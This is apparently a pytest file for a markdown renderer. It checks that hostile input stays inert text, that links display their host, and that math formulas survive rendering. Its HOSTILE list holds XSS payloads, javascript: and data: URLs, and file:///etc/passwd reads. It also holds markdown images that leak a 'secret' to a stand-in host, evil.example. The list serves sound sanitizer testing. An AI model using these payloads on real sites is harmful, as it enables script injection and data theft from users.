"""Answers may repeat what a hostile document says: none of it may become live."""

import re

import pytest

from ui.page.html import esc as html_of
from ui.page.markdown import plain, render

HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "![x](http://evil.example/?q=secret)", "![x][1]\n\n[1]: http://evil.example/leak", "<iframe src=//evil.example>",
    "<video src=http://evil.example>", "<form action=http://evil.example><input name=p></form>",
    '<div style="position:fixed;inset:0">cover</div>', "<style>*{display:none}</style>", "<!-- --><b onclick=x()>b</b>",
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)", "[a](file:///etc/passwd)", "[a](//evil.example)", "[a](/gradio_api/file=/etc/passwd)",
    "<javascript:alert(1)>", '[a](http://x.example "onmouseover=alert(1)")', "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "&lt;script&gt;",
    "{{constructor}}${1+1}",
    "|<script>|\n|--|\n|<img src=x>|", "[<img src=x onerror=a>](http://x.example)", "<a href='javascript:x'>x</a>",
    "[a]( javascript:alert(1))", "[a](java\nscript:alert(1))", "<http://a.example/\"onclick=x>",
]
TAGS = {"p", "a", "span", "strong", "em", "s", "code", "pre", "ul", "ol", "li", "blockquote", "h1", "h2", "h3", "h4",
        "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "hr", "br", "div", "button"}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    html = render(text)
    tags = re.findall(r"<\s*([a-zA-Z]+)([^>]*)>", html)
    assert {name for name, _ in tags} <= TAGS
    for name, attributes in tags:
        names = set(re.findall(r"""([\w-]+)=(?:"[^"]*"|'[^']*'|\S+)""", attributes))
        assert names <= {"href", "title", "target", "rel", "class", "type", "data-copy", "start"}, attributes
        if name == "a":
            assert re.search(r'href="(https?://[^/"]+|mailto:)', attributes)
            assert 'rel="noopener noreferrer nofollow"' in attributes


def test_the_words_without_the_marks() -> None:
    text = ("# Head\n\n**bold** ~~gone~~\nnext\n\n3. [our `bank`](https://good.example)\n\n> quoted\n\n"
            "```py\na * b\n```\n")
    assert plain(text) == "Head\nbold gone next\n3. our bank\nquoted\na * b"
    assert plain("|a|b|\n|--|--|\n|1|2|") == "a\nb\n1\n2" and plain("- one\n- <b>two</b>") == "- one\n- <b>two</b>"


def test_where_a_link_leads_is_said_but_of_an_address_in_full() -> None:
    assert "[good.example]" in render("[our bank](https://good.example)") and "[mailto]" in render("[a](mailto:b@c.de)")
    assert "[evil.example]" in render("<https://good.example@evil.example>") and "tf-host" not in render("<b@c.de>")


@pytest.mark.parametrize("formula", [
    r"\[ \frac{a}{b} \]", "$a*b*c$", r"\(x_1 * y_2 * z\)", "$$a_1 * b_2 * c$$", "$\\alpha_i$", r"\[ [a]*[b]*c \]",
    "\\[\n\\begin{aligned}\n- a *b* c \\\\\n+ d\n\\end{aligned}\n\\]", "$$\n= x_1\n\n# y *z*\n$$"])
def test_formulas_stay_as_they_were_written(formula: str) -> None:
    html = render(f"So it is:\n{formula}\nand *that* is all.")
    assert html_of(formula) in html and "<em>that</em>" in html and html.count("<em>") == 1
    assert formula in plain(formula)


def test_prices_and_escapes_are_no_formulas() -> None:
    assert render("It costs $5 and *also* $6, or US$7 *each*.").count("<em>") == 2
    assert render(r"a \* b \[open *emph*") == "<p>a * b [open <em>emph</em></p>\n"
    assert "<code>$a*b*c$</code>" in render("`$a*b*c$`")


def test_links_show_their_host() -> None:
    assert "[good.example]" in render("[our bank](https://good.example/login)")


def test_what_people_use_is_rendered() -> None:
    html = render("# Head\n\n**bold** ~~gone~~\n\n- one\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n```\ncode\n```")
    for tag in ("<h1>", "<strong>", "<s>", "<li>", "<table>", "<pre>"):
        assert tag in html
